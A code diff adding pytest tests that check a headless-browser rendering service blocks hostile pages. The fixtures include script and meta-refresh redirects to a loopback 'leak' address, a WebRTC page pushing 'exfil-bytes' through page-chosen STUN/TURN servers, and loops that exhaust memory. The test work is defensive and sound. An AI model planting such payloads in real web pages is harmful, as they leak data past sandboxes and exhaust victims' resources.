@@ -6,14 +6,18 @@ process behind."""
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import json
 import os
+import socket
+import threading
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
 from external_query_service.browser import BrowserProvider
+from external_query_service.errors import RenderFailed
 from external_query_service.settings import BrowserSettings
 from external_query_service.testing import LoopbackServer, Reply, World, hit
 from tests.support.world import make_service
@@ -314,3 +318,201 @@ def test_dialogs_pop_ups_and_downloads_are_refused(world: World, chromium: str) 
     assert STORY[0] in html
     assert pages == 1  # the pop-up was closed
     assert not world.requests_to("/popup", host="port.test")
+
+
+@pytest.mark.parametrize(
+    "sends",
+    [
+        pytest.param('<script>location.href = "{leak}";</script>', id="script-at-once"),
+        pytest.param(
+            '<script>setTimeout(() => {{ location.href = "{leak}"; }}, 50);</script>',
+            id="script-after-load",
+        ),
+        pytest.param('<meta http-equiv="refresh" content="0; url={leak}">', id="meta-refresh"),
+    ],
+)
+def test_a_page_that_sends_its_tab_to_a_refused_address_is_no_document(
+    world: World, refused: LoopbackServer, chromium: str, sends: str
+) -> None:
+    leak = f"http://127.0.0.2:{refused.port}/leak"
+    body = f"<html><head>{sends.format(leak=leak)}</head><body><p>{STORY[0]}</p></body></html>"
+    url = world.page("port.test", "/away", body)
+    provider = BrowserProvider(BrowserSettings(page_timeout_s=8.0), world.settings().network)
+
+    async def render() -> None:
+        session = await provider.session()
+        try:
+            with pytest.raises(RenderFailed) as failed:
+                await session.render(url)
+            assert failed.value.reason == "navigation_refused"
+            assert failed.value.detail == leak
+            # The browser is still usable: the next page renders.
+            good = await session.render(world.page("port.test", "/good", f"<p>{STORY[1]}</p>"))
+            assert STORY[1] in good.page.body.decode()
+        finally:
+            await session.close()
+
+    try:
+        asyncio.run(render())
+    finally:
+        provider.close()
+    assert refused.requests == []
+
+
+def test_in_a_question_such_a_page_fails_as_not_a_document_and_chromes_text_is_not_read(
+    world: World, refused: LoopbackServer, chromium: str
+) -> None:
+    leak = f"http://127.0.0.2:{refused.port}/leak"
+    away = world.page(
+        "port.test", "/away", f'<script>location.href = "{leak}";</script><p>{STORY[0]}</p>'
+    )
+    world.results(QUESTION, [hit(away, "湛江港新闻", "湛江港")])
+    with make_service(
+        world, world.searxng(), browser=browser_section("always"), network=ROOMY
+    ) as service:
+        service.warm_up()
+        answer = service.answer(QUESTION, {"entities": ["湛江港"]})
+
+    assert not answer.evidence
+    detail = answer.audit.named("attempt")[0].detail
+    assert detail["page_failures"] == [f"{away} not_a_document:always"]
+    assert detail["rendered"] == [f"{away} always failed:navigation_refused"]
+    assert "chrome-error" not in answer.model_dump_json()
+
+
+def test_a_tab_that_ends_on_no_web_page_is_no_document(world: World, chromium: str) -> None:
+    url = world.page(
+        "port.test",
+        "/blank",
+        f'<p>{STORY[0]}</p><script>setTimeout(() => {{ location.href = "about:blank"; }}, 20);'
+        "</script>",
+    )
+    provider = BrowserProvider(BrowserSettings(page_timeout_s=8.0), world.settings().network)
+
+    async def render() -> RenderFailed:
+        session = await provider.session()
+        try:
+            with pytest.raises(RenderFailed) as failed:
+                await session.render(url)
+            return failed.value
+        finally:
+            await session.close()
+
+    try:
+        failure = asyncio.run(render())
+    finally:
+        provider.close()
+    assert (failure.reason, failure.detail) == ("error_page", "about:blank")
+
+
+class _Canary:
+    """A UDP and a TCP listener on 127.0.0.1 that note every datagram and connection."""
+
+    def __init__(self) -> None:
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind(("127.0.0.1", 0))
+        self.udp.settimeout(0.05)
+        self.tcp = socket.create_server(("127.0.0.1", 0))
+        self.tcp.settimeout(0.05)
+        self.heard: list[str] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._listen, daemon=True)
+        self._thread.start()
+
+    def _listen(self) -> None:
+        while not self._stop.is_set():
+            with contextlib.suppress(TimeoutError, OSError):
+                data, peer = self.udp.recvfrom(65536)
+                self.heard.append(f"udp {peer} {data[:40]!r}")
+            with contextlib.suppress(TimeoutError, OSError):
+                connection, peer = self.tcp.accept()
+                self.heard.append(f"tcp {peer}")
+                connection.close()
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join(5)
+        self.udp.close()
+        self.tcp.close()
+
+
+#: A page that gathers ICE candidates through STUN and TURN servers the page chose: UDP
+#: for STUN and TURN/UDP, TCP for TURN/TCP (the TURN username is bytes the page picks).
+WEBRTC = """<html><body><p>{story}</p><script>
+const servers = [
+  {{urls: "stun:127.0.0.1:{udp}"}},
+  {{urls: "turn:127.0.0.1:{udp}?transport=udp", username: "exfil-bytes", credential: "x"}},
+  {{urls: "turn:127.0.0.1:{tcp}?transport=tcp", username: "exfil-bytes", credential: "x"}},
+];
+try {{
+  const pc = new RTCPeerConnection({{iceServers: servers, iceCandidatePoolSize: 4}});
+  pc.createDataChannel("x");
+  pc.createOffer().then(offer => pc.setLocalDescription(offer));
+}} catch (e) {{ document.title = "no webrtc"; }}
+</script></body></html>"""
+
+
+def test_webrtc_sends_nothing_to_stun_or_turn_servers_a_page_names(
+    world: World, chromium: str
+) -> None:
+    canary = _Canary()
+    try:
+        udp, tcp = canary.udp.getsockname()[1], canary.tcp.getsockname()[1]
+        url = world.page("port.test", "/rtc", WEBRTC.format(story=STORY[0], udp=udp, tcp=tcp))
+        provider = BrowserProvider(BrowserSettings(page_timeout_s=8.0), world.settings().network)
+
+        async def render() -> None:
+            session = await provider.session()
+            try:
+                await session.render(url)
+                await asyncio.sleep(1.5)  # candidates gathered late still count
+            finally:
+                await session.close()
+
+        try:
+            asyncio.run(render())
+        finally:
+            provider.close()
+    finally:
+        canary.close()
+    assert canary.heard == []
+
+
+@pytest.mark.parametrize(
+    "allocate",
+    [
+        pytest.param("hold.push(new Array(1 << 20).fill(n))", id="js-arrays"),
+        pytest.param("hold.push(new Uint8Array(16 << 20).fill(n & 255))", id="array-buffers"),
+    ],
+)
+def test_a_page_allocating_in_a_loop_is_refused_and_the_browser_stays_usable(
+    world: World, chromium: str, allocate: str
+) -> None:
+    hog = world.page(
+        "port.test",
+        "/hog",
+        f"<p>{STORY[0]}</p><script>const hold = []; let n = 0;"
+        f"function grow() {{ for (let i = 0; i < 8; i++) {{ n++; {allocate}; }}"
+        " setTimeout(grow, 0); } grow();</script>",
+    )
+    plain = world.page("port.test", "/plain", f"<p>{STORY[1]}</p>")
+    provider = BrowserProvider(BrowserSettings(page_timeout_s=8.0), world.settings().network)
+
+    async def render() -> tuple[RenderFailed, str]:
+        session = await provider.session()
+        try:
+            with pytest.raises(RenderFailed) as failed:
+                await session.render(hog)
+            after = await session.render(plain)
+            return failed.value, after.page.body.decode()
+        finally:
+            await session.close()
+
+    try:
+        failure, after = asyncio.run(render())
+        kills = provider.memory_kills
+    finally:
+        provider.close()
+    assert failure.reason == "render_memory"
+    assert kills >= 1
+    assert STORY[1] in after  # the next page renders in the same browser
